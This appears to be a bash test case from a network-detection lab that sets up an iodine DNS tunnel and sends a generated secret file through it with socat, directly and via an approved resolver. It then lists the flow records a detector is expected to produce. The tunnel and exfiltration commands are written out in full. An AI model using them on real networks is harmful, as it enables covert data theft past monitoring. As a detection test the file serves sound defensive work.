# shellcheck shell=bash disable=SC2034,SC2154
case_about='An iodine tunnel: first straight to its server abroad (unapproved), then through the approved resolver, which forwards it (approved by address; what gives it away is its behaviour).'
case_needs='iodine iodined socat'
case_setup() {
    lab_bg case-iodined outside iodined -f -c -P lab -l "$NS2" 192.0.2.193/27 t.tunnel.example
    lab_wait 3 lab_in outside ip link show dns0
}
case_traffic() {
    local via
    for via in "$NS2" "$RESOLVER"; do
        rm -f "$LAB_DIR/log/case-iodine"   # the words of the one before
        lab_bg case-iodine nii8 iodine -f -r -m 900 -P lab -T TXT "$via" t.tunnel.example
        lab_wait 6 grep -q "Connection setup complete" "$LAB_DIR/log/case-iodine" || return 1
        lab_blob "$LAB_DIR/tmp/secret" 6
        lab_in nii8 socat -u "OPEN:$LAB_DIR/tmp/secret" UDP4-SENDTO:192.0.2.193:9999
        sleep 1
        lab_kill case-iodine
    done
}
case_expect() {
    printf '%s\t%s\t%s\n' \
    '>=1' '.src_ip=="192.0.2.11" and .dest_ip=="203.0.113.53" and .dest_port==53 and .proto=="udp" and .verdict=="unapproved" and .ip_bytes_out>5000' 'the tunnel to its own server is unapproved' \
    '>=1' '.src_ip=="192.0.2.11" and .dest_ip=="198.51.100.53" and .dest_port==53 and .ip_bytes_out>5000' 'the tunnel through the resolver is recorded with its bytes' \
    0 '.src_ip=="192.0.2.194" or .dest_ip=="192.0.2.193"' 'its inside is not seen'
}
